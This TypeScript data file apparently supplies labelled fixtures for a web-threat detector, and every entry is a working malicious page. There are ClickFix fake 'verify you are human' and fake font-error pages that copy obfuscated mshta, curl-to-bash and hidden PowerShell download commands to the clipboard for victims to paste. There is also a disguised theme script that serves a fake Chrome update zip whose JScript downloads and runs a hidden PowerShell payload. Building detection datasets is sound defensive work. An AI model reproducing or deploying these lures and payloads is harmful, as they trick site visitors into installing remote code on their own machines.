import { htmlRoute, type Entry } from '../entry.js';
import { doc, tess } from '../parts/zq-kit.js';
import { jsRoute, zip, fileRoute, pe } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zq-clickfix-dental-cloudflare-style',
  label: 'clickfix',
  kind: 'clickfix-hacked-smb',
  url: 'https://smileworks-dentalcare.com/book-appointment/',
  body: doc('smileworks-dentalcare.com', `<div class="w"><h1>smileworks-dentalcare.com</h1><h2>Verify you are human by completing the action below.</h2>
<div class="bx" id="bx"><label><input type="checkbox" id="cb"> Verify you are human</label><span class="cf">CLOUDFLARE<br><small>Privacy &middot; Terms</small></span></div>
<div id="steps" style="display:none" class="st"><p><b>Additional verification required.</b> Our systems detected unusual traffic. To continue:</p><p>1. Press &#8862; Win + R<br>2. Paste with Ctrl + V<br>3. Press Enter to complete verification</p></div>
<p class="ft">smileworks-dentalcare.com needs to review the security of your connection before proceeding.</p></div>
<script>
var _p=['bXNodGEgaHR0cHM6Ly9zbWlsZXdvcmtzLWRlbnRhbGNhcmUuY29tL3dwLWFkbWluL2Nzcy92ZXJpZnkuaHRh','ICAgICAgICAgICAgICAgICAgICAgICMgQ2xvdWRmbGFyZSBSYXkgSUQ6IDkxYWM0ZTcyYjBmMQ=='];
document.getElementById('cb').addEventListener('change',function(){var s=atob(_p[0])+atob(_p[1]);var ta=document.createElement('textarea');ta.value=s;document.body.appendChild(ta);ta.select();document.execCommand('copy');document.body.removeChild(ta);document.getElementById('steps').style.display='block';});
</script>`, { css: `.w{max-width:680px;margin:12vh auto;padding:0 20px}h1{font-weight:500}h2{font-weight:400;font-size:20px}.bx{display:flex;justify-content:space-between;align-items:center;border:1px solid #e0e0e0;background:#fafafa;padding:16px;width:300px}.cf{font-size:10px;color:#f38020;text-align:right}.st{background:#fff8e1;border:1px solid #ffe082;padding:12px;margin-top:14px}.ft{margin-top:40px;color:#666}` }),
},

{
  id: 'zq-clickfix-macos-terminal-install',
  label: 'clickfix',
  kind: 'clickfix-macos',
  url: 'https://vintage-frames-atelier.com/gallery/',
  body: doc('Atelier Cadres Anciens — Galerie', `<div class="ov"><div class="card"><h2>Confirmez que vous êtes humain</h2><p>Pour accéder à la galerie, effectuez la vérification macOS :</p>
<ol><li>Appuyez sur <b>Cmd + Espace</b>, tapez <b>Terminal</b> et appuyez sur Entrée</li><li>Collez la commande ci-dessous (déjà copiée) et appuyez sur Entrée</li></ol>
<pre id="c">/bin/bash -c "$(echo Y3VybCAtZnNTTCBodHRwczovL2F0ZWxpZXItY2RuLmNsb3VkL21hYy9pbnN0YWxsLnNoIHwgYmFzaA== | base64 -d)"</pre><button id="b">Copier</button></div></div>
<script>function cp(){navigator.clipboard.writeText(document.getElementById('c').textContent)};document.getElementById('b').onclick=cp;document.addEventListener('click',cp,{once:true});</script>`, { lang: 'fr', css: `.ov{position:fixed;inset:0;background:#f5f5f7;display:flex;align-items:center;justify-content:center}.card{background:#fff;width:520px;padding:28px;border-radius:14px;box-shadow:0 6px 24px rgba(0,0,0,.12)}pre{background:#1d1d1f;color:#9fe870;padding:12px;white-space:pre-wrap;font-size:12px}button{background:#0071e3;color:#fff;border:0;padding:10px 22px;border-radius:8px}` }),
},

{
  id: 'zq-clickfix-font-missing-chrome',
  label: 'clickfix',
  kind: 'clickfix-browser-error',
  url: 'https://autohaus-kowalski.pl/oferta/samochody-uzywane',
  body: doc('Autohaus Kowalski — Samochody używane', `<div style="filter:blur(3px)"><h1>Samochody używane</h1><p>Å¾Ä™ÅºÄ‡ Ã³Å‚Å„ Ä…Ä™ÅºÅ¼ Å›Ä‡ Ã³Å‚Å„ Ä…Ä™ÅºÅ¼ &#65533;&#65533;&#65533; &#65533;&#65533;</p></div>
<div class="m"><div class="hd">The "HoeflerText" font wasn't found</div><p>The web page you are trying to load is displayed incorrectly, as it uses the "HoeflerText" font. To fix the error and display the text, you have to update the "Chrome Font Pack".</p>
<p><b>How to fix:</b> click "Fix", open PowerShell (Win+X &rarr; Terminal) and paste the copied command.</p><button id="f">Fix</button></div>
<script>
var k=[112,111,119,101,114,115,104,101,108,108,32,45,101,112,32,98,121,112,97,115,115,32,45,119,32,104,105,100,100,101,110,32,45,99,32,34,73,69,88,32,40,73,82,77,32,39,104,116,116,112,115,58,47,47,102,111,110,116,112,97,99,107,45,99,100,110,46,99,111,109,47,102,112,46,112,115,49,39,41,34];
document.getElementById('f').onclick=function(){navigator.clipboard.writeText(String.fromCharCode.apply(null,k));this.textContent='Copied - now paste in PowerShell'};
</script>`, { lang: 'pl', css: `.m{position:fixed;top:22%;left:50%;transform:translateX(-50%);width:480px;background:#fff;border-radius:6px;box-shadow:0 4px 30px rgba(0,0,0,.4);padding:0 20px 20px}.hd{background:#1a73e8;color:#fff;margin:0 -20px;padding:14px 20px;border-radius:6px 6px 0 0}button{background:#1a73e8;color:#fff;border:0;padding:10px 40px}` }),
},

{
  id: 'zq-fake-chrome-update-lawfirm-zip',
  label: 'malware',
  kind: 'fake-browser-update',
  url: 'https://moreau-avocats-lyon.fr/',
  body: doc('Moreau Avocats — Cabinet d\'avocats à Lyon', `<header style="padding:20px 6vw;border-bottom:1px solid #ddd"><b>Moreau &amp; Associés</b> — Avocats au Barreau de Lyon</header><main style="padding:40px 6vw"><h1>Droit des affaires, droit social, contentieux</h1></main>
<script src="https://moreau-avocats-lyon.fr/wp-content/themes/astra/assets/js/minified/frontend.min.js?ver=4.6.3"></script>`, { lang: 'fr' }),
  routes: {
    'moreau-avocats-lyon.fr/wp-content/themes/astra/assets/js/minified/frontend.min.js': jsRoute(`!function(){if(!/Windows/.test(navigator.userAgent)||document.cookie.indexOf('_upd=1')>-1)return;document.cookie='_upd=1;max-age=86400;path=/';
document.documentElement.innerHTML='<head><title>Google Chrome</title></head><body style="margin:0;font-family:Arial;background:#fff"><div style="max-width:560px;margin:12vh auto;text-align:center"><svg width="72" height="72"><circle cx="36" cy="36" r="34" fill="#db4437"/><circle cx="36" cy="36" r="14" fill="#4285f4" stroke="#fff" stroke-width="5"/></svg><h1 style="font-weight:400">An error occurred in displaying this page</h1><p>Your version of Chrome is out of date and can no longer open secure pages. Please update Chrome to the latest version.</p><a id="dl" href="https://moreau-avocats-lyon.fr/wp-content/uploads/update/Chrome_Update_129.0.6668.zip" style="display:inline-block;background:#1a73e8;color:#fff;padding:12px 30px;border-radius:4px;text-decoration:none">Update Chrome</a><p style="font-size:12px;color:#777">Recommended: after downloading, open the file to install the update.</p></div></body>';}();`),
    'moreau-avocats-lyon.fr/wp-content/uploads/update/Chrome_Update_129.0.6668.zip': fileRoute(zip([{ name: 'Chrome_Update_129.0.6668.js', data: `var sh=new ActiveXObject("WScript.Shell");var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","https://moreau-avocats-lyon.fr/wp-content/uploads/update/p.dat",false);x.send();var f=new ActiveXObject("Scripting.FileSystemObject");var p=sh.ExpandEnvironmentStrings("%TEMP%")+"\\\\upd.ps1";var t=f.CreateTextFile(p,true);t.Write(x.responseText);t.Close();sh.Run("powershell -ep bypass -w hidden -f "+p,0,false);` }]), 'application/zip', 'Chrome_Update_129.0.6668.zip'),
  },
},
];
